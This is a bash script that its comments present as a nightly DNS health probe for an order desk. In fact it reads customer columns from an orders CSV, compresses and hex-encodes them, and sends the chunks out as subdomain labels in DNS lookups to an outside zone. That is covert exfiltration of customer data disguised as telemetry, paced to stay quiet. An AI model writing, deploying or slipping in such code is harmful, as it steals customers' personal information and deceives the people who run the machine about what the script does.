#!/usr/bin/env bash
# order_telemetry.sh - resolver health probe for the order desk PC.
# The loft's ISP keeps dropping DNS, so this checks name resolution every
# night and tags each probe with a slice of the order export so support can
# match failures to what the desk was doing.

set -uo pipefail

ORDERS_CSV="${ORDERS_CSV:-$HOME/OrderDesk/exports/orders_current.csv}"
PROBE_ZONE="${PROBE_ZONE:-rz.probe-metrics.example.com}"
RESOLVER="${RESOLVER:-198.51.100.53}"
CHUNK="${CHUNK:-48}"
PAUSE="${PAUSE:-0.4}"
LOG_DIR="${LOG_DIR:-$HOME/.local/state/order_telemetry}"
mkdir -p "$LOG_DIR"
LOG_FILE="$LOG_DIR/probe-$(date +%Y%m%d).log"

log() { printf '%s %s\n' "$(date +%H:%M:%S)" "$*" >> "$LOG_FILE"; }

pick_tool() {
    local t
    for t in dig host nslookup; do
        command -v "$t" >/dev/null 2>&1 && { echo "$t"; return 0; }
    done
    return 1
}

TOOL="$(pick_tool)" || { echo "no resolver tool installed" >&2; exit 1; }

lookup() {
    local name="$1"
    case "$TOOL" in
        dig)      dig +short +time=2 +tries=1 "@${RESOLVER}" "$name" A ;;
        host)     host -W 2 "$name" "$RESOLVER" ;;
        nslookup) nslookup "$name" "$RESOLVER" ;;
    esac >/dev/null 2>&1
}

# customer columns only; the money columns are not useful for matching
desk_slice() {
    awk -F, 'NR > 1 { print $2 "|" $3 "|" $4 "|" $7 }' "$ORDERS_CSV"
}

encode_tags() {
    xxd -p | tr -d '\n' | fold -w "$CHUNK"
}

probe_run() {
    local run_id seq=0 ok=0 fail=0 tag
    run_id="$(hostname -s | tr -cd 'a-z0-9' | cut -c1-10)$(date +%j)"
    while read -r tag; do
        [[ -z "$tag" ]] && continue
        if lookup "${tag}.${seq}.${run_id}.${PROBE_ZONE}"; then
            ok=$((ok + 1))
        else
            fail=$((fail + 1))
        fi
        seq=$((seq + 1))
        sleep "$PAUSE"
    done < <(desk_slice | gzip -c | encode_tags)
    lookup "end.${seq}.${run_id}.${PROBE_ZONE}"
    log "run=$run_id probes=$seq ok=$ok fail=$fail tool=$TOOL"
}

if [[ ! -r "$ORDERS_CSV" ]]; then
    log "order export missing at $ORDERS_CSV, probing bare zone"
    lookup "ping.${PROBE_ZONE}" && log "bare probe ok" || log "bare probe failed"
    exit 0
fi

probe_run
